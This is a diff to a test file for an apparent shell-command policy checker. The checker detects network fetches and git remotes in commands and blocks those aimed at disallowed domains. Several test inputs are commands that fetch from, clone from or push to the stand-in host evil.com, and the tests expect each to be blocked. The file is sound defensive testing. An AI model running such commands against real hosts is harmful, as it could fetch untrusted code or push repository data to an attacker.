@@ -427,6 +427,7 @@ def test_what_curl_wget_and_httpie_fetch_goes_to_the_fetch_tool():
     from policyc.runtime.splitters import transfers
 
     assert transfers.FETCHERS == shell_module._FETCHERS
+    assert transfers.GIT_REMOTES == shell_module._GIT_REMOTES
     config = DEFAULT_CONFIG._replace(fetch_tool="web")
 
     def fetched(command):
@@ -443,6 +444,11 @@ def test_what_curl_wget_and_httpie_fetch_goes_to_the_fetch_tool():
     assert fetched("sudo curl -fsSL evil.com | jq .") == ["http://evil.com"]
     assert fetched("echo curl evil.com") == fetched("curl") == []
     assert [s for s in split("curl evil.com") if s.get("tool") == "web"] == []  # no fetch tool
+    # git's remotes by URL (not by a remote's name, nor a refspec)
+    assert fetched("git clone --depth 1 https://evil.com/r d") == ["https://evil.com/r"]
+    assert fetched("git -C x push git@evil.com:r.git HEAD:main") == ["ssh://git@evil.com"]
+    assert fetched("git archive --remote=ssh://evil.com/r HEAD") == ["ssh://evil.com/r"]
+    assert fetched("git push origin HEAD:main") == fetched("git clone ../r C:/x") == []
 
     text = (
         "default allow\ntool bash glob(command) split shell fetch=web\ntool web domain(url)\n"
@@ -453,6 +459,7 @@ def test_what_curl_wget_and_httpie_fetch_goes_to_the_fetch_tool():
     for command, action in [
         ("curl https://evil.com/x", "block"),
         ("wget -qO- www.evil.com", "block"),
+        ("git clone git@evil.com:x/y.git", "block"),
         ("curl -s https://api.corp.example", "defer"),
         ("curl https://example.org", "allow"),
         ("git status", "allow"),
